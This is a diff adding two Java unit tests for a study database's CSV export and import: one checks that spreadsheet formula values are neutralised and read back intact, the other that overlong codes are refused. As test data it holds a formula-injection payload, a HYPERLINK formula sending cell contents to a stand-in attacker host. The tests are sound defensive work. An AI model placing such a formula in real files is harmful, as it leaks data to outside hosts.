@@ -80,4 +80,32 @@ class StudyCsvTest {
             assertEquals(db.findAll(Subject.class).size() + 1, added.id());
         }
     }
+
+    @Test
+    void exportNeutralisesSpreadsheetFormulasAndImportReadsTheOriginalBack() throws Exception {
+        try (StudyDatabase db = StudyDatabaseTest.memory("csvformula"); StudyDatabase copy = StudyDatabaseTest.memory("csvformulacopy")) {
+            db.insert(new Subject(null, "=HYPERLINK(\"http://evil.example/?\"&A1,\"S01\")", "F", 1990, 50.0, "+thal", "-x"));
+            db.insert(new Subject(null, "@SUM(1)", null, null, null, "\t=cmd", "\r=cmd"));
+            db.insert(new Subject(null, "'=quoted", null, null, null, "'note", "''"));
+            db.insert(new Subject(null, "S04", null, null, 72.5, "sickle cell disease", null));
+            Path file = dir.resolve("subjects.csv");
+            StudyCsv.export(db, Subject.class, file);
+            String text = java.nio.file.Files.readString(file);
+            assertTrue(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"S01\"\")\""), text);
+            assertTrue(text.contains("\"'+thal\",\"'-x\"") && text.contains("\"'@SUM(1)\"") && text.contains("\"'\t=cmd\",\"'\r=cmd\""), text);
+            assertTrue(text.contains("\"''=quoted\"") && text.contains("\"'note\",\"'''\""), text);
+            CsvImportReport rep = StudyCsv.importFile(copy, Subject.class, file, false);
+            assertTrue(rep.ok(), rep.toString());
+            assertEquals(db.findAll(Subject.class), copy.findAll(Subject.class), "every text comes back exactly");
+        }
+    }
+
+    @Test
+    void importRefusesTooLongCodesNamingTheFieldAndTheLimit() throws Exception {
+        try (StudyDatabase db = StudyDatabaseTest.memory("csvlong")) {
+            CsvImportReport rep = StudyCsv.importText(db, Subject.class, "code,weight_kg\n" + "C".repeat(65) + ",70\n", false);
+            assertEquals(List.of(new CsvImportReport.Problem(2, "code", "subjects.code must be at most 64 characters long; it has 65")),
+                    rep.problems());
+        }
+    }
 }
